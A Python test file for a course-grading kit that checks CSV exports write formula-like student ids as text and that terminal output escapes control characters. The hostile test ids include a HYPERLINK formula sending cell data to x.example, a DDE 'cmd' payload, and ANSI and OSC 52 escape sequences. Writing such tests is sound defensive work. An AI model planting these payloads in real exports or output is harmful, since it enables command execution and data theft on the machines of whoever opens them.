"""Every CSV the kit writes is safe to open in a spreadsheet, and student text printed is inert.

A student id (or any text cell) that starts like a formula (``=``, ``+``,
``-``, ``@``, tab, CR) would run when a TA opens the export in Excel,
LibreOffice or Google Sheets; it is written as text (a leading apostrophe,
OWASP's advice) by one shared helper, ``coursekit.spreadsheet.text_cell``.
Scores stay numbers.  The score table and the autograder's failure lines show
such ids with control characters escaped.
"""
from __future__ import annotations

import csv
import re

import pytest
from nbgrader.api import Gradebook

from conftest import REPO
from kitcourse import KIT1
from coursekit import similarity
from coursekit.cli import main
from coursekit.spreadsheet import text_cell

HOSTILE_IDS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tfoo", "\rfoo",
               "=cmd|' /C calc'!A0", "\x1b[2Jmallory"]
HONEST_IDS = ["alice", "o'brien", "jos\u00e9"]


def test_text_cells_that_look_like_formulas_become_text():
    for value in HOSTILE_IDS:
        cell = text_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell.isprintable()
    assert text_cell("=1+1") == "'=1+1" and text_cell("-2+3") == "'-2+3" and text_cell("@SUM(A1)") == "'@SUM(A1)"
    assert text_cell("\tfoo") == "\\tfoo" and text_cell("\rfoo") == "\\rfoo"  # escaped: no formula, no line break
    for value in HONEST_IDS:
        assert text_cell(value) == value


@pytest.fixture
def graded_course(kit_copy):
    """The released kit course with a submission of each id in its gradebook, every item scored,
    the written one too (one at -0.0, which a spreadsheet must still read as a number)."""
    course = kit_copy
    with Gradebook(course.db_url) as gb:
        for n, student in enumerate(HOSTILE_IDS + HONEST_IDS):
            gb.add_student(student)
            submission = gb.add_submission(KIT1.name, student)
            for notebook in submission.notebooks:
                for k, grade in enumerate(notebook.grades):
                    grade.auto_score = -0.0 if (n, k) == (0, 0) else min(float(grade.max_score or 0), 0.5 * (k + 1))
        gb.db.commit()
    return course


def test_course_export_writes_student_ids_as_text_and_scores_as_numbers(graded_course, tmp_path, capsys):
    out = tmp_path / "grades.csv"
    assert main(["--course", str(graded_course.root), "export", KIT1.name, "-o", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header[0] == "student" and len(body) == len(HOSTILE_IDS) + len(HONEST_IDS)
    ids = [row[0] for row in body]
    for cell in ids:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell.isprintable(), cell
    assert "'" + HOSTILE_IDS[0] in ids and "'+1" in ids and "'-2+3" in ids and "'@SUM(A1)" in ids
    assert "\\tfoo" in ids and "\\rfoo" in ids and "\\x1b[2Jmallory" in ids
    assert set(HONEST_IDS) <= set(ids)  # honest ids are as they were
    for row in body:  # every item, total, max, graded and awaiting: numbers
        for value in row[1:]:
            float(value)
    negative_zero = body[ids.index("'" + HOSTILE_IDS[0])][1]
    assert float(negative_zero) == 0.0


def test_the_score_table_shows_ids_with_control_characters_escaped(graded_course, capsys):
    assert main(["--course", str(graded_course.root), "scores", KIT1.name]) == 0
    out = capsys.readouterr().out
    assert not [c for c in out if c != "\n" and not c.isprintable()]
    assert "\\x1b[2Jmallory" in out and "\\rfoo" in out


def test_autograde_failure_lines_are_escaped(graded_course, monkeypatch, capsys):
    from coursekit.autograde import run

    def failing(assignment, course, **_):
        summary = run.RunSummary()
        summary.failed["\x1b[2Jmallory"] = "could not be graded: ValueError: \x1b]52;c;ZXZpbA==\x07\rdone"
        return summary

    monkeypatch.setattr(run, "autograde", failing)
    code = main(["--course", str(graded_course.root), "autograde", KIT1.name, "--allow-unsandboxed"])
    captured = capsys.readouterr()
    assert code == 1
    assert not [c for c in captured.out + captured.err if c != "\n" and not c.isprintable()]
    assert "\\x1b[2Jmallory: could not be graded: ValueError: \\x1b]52;c;ZXZpbA==\\x07\\rdone" in captured.err


def test_pairs_csv_uses_the_same_cells():
    pairs = [similarity.Pair(a, b, 0.9, 0.9, 10) for a, b in zip(HOSTILE_IDS, HOSTILE_IDS[1:])]
    rows = list(csv.reader(similarity.pairs_csv(pairs, similarity.THRESHOLD).splitlines()))
    for row, pair in zip(rows[1:], pairs):
        assert row[:2] == [text_cell(pair.student_a), text_cell(pair.student_b)]
        assert float(row[2]) == 0.9 and int(row[5]) == 10


def test_every_csv_the_kit_writes_goes_through_the_shared_helper():
    writers = {}
    for path in sorted((REPO / "coursekit").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            writers[path.relative_to(REPO).as_posix()] = "text_cell(" in text
    assert writers == {"coursekit/gradebook.py": True, "coursekit/similarity.py": True}
